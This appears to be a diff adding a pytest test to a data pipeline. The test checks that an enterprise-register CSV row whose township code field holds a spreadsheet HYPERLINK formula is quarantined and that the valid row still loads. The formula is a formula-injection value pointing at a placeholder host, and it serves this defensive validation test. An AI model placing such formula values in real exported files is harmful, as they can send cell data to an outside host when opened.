@@ -145,3 +145,28 @@ def test_non_finite_prices_are_quarantined_with_the_field_named(env):
     assert all("field price (price):" in r and "is not a finite number" in r for r in bad["reason"]), \
         bad["reason"].tolist()
     assert "prices/prices_2024-01.jsonl row 2" in bad["reason"][0]
+
+
+REGISTER_HEADER = ("统一社会信用代码,企业名称,住所,乡镇街道代码,行业代码,企业类型,企业规模,成立日期,注销日期,"
+                   "法定代表人,法定代表人证件号码,联系电话")
+FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"详情")'
+
+
+def test_a_code_outside_its_code_list_is_quarantined_and_the_good_row_lands(env):
+    """A register township code is a code of the catalogue's township list: a spreadsheet
+    formula delivered in its place used to travel to gold and into released files."""
+    out, lake, settings = env
+    text = (f"{REGISTER_HEADER}\n"
+            f"{A},甲公司,中山区某路1号,660102001,5213,有限责任公司,小型,2010-01-01,,张三,110101199001011234,13800000000\n"
+            f'{B},乙公司,中山区某路2号,"{FORMULA.replace(chr(34), chr(34) * 2)}",5213,有限责任公司,小型,2011-01-01,,'
+            f"李四,110101199001015678,13900000000\n")
+    path = out / "deliveries" / "register" / "register_2024-01.csv"
+    path.parent.mkdir(parents=True)
+    path.write_bytes(text.encode("gbk"))
+    _, silver = run(lake, settings, "bronze_register", "silver_enterprises")
+    assert (silver.rows_read, silver.rows_written, silver.rows_quarantined) == (2, 1, 1)
+    kept = lake.read("silver.enterprises").toPandas()
+    assert kept["credit_code"].tolist() == [A] and kept["township_code"].tolist() == ["660102001"]
+    [reason] = [r["reason"] for r in lake.read("quarantine.register").filter("stage = 'silver'").collect()]
+    assert reason.startswith("register/register_2024-01.csv row 3: field 乡镇街道代码 (township_code): "), reason
+    assert reason.endswith("is not a code of the township_code code list"), reason
